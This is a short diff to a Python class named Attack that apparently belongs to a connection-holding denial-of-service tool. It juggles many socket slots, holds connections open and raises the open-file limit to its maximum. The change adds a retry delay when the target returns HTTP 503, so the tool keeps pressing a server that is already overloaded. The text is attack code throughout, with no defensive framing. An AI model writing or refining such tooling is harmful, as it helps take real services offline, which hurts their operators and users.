@@ -85,7 +85,8 @@ class Attack:
         self.sockets[slot] = None
         self.open -= 1
         self.generation[slot] += 1
-        self.schedule(slot, self.args.interval * random.uniform(0.5, 1.5))
+        refused = answer.startswith(b"HTTP/1.1 503")
+        self.schedule(slot, random.uniform(*self.args.retry) if refused else self.args.interval * random.uniform(0.5, 1.5))
 
     def on_event(self, slot: int, mask: int) -> None:
         sock = self.sockets[slot]
@@ -158,6 +159,7 @@ def main() -> None:
     parser.add_argument("--interval", type=float, default=3.0)
     parser.add_argument("--ramp", type=float, default=3.0)
     parser.add_argument("--max-held", type=float, default=15.0)
+    parser.add_argument("--retry", type=float, nargs=2, default=(15.0, 30.0), help="seconds before retrying a 503")
     args = parser.parse_args()
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
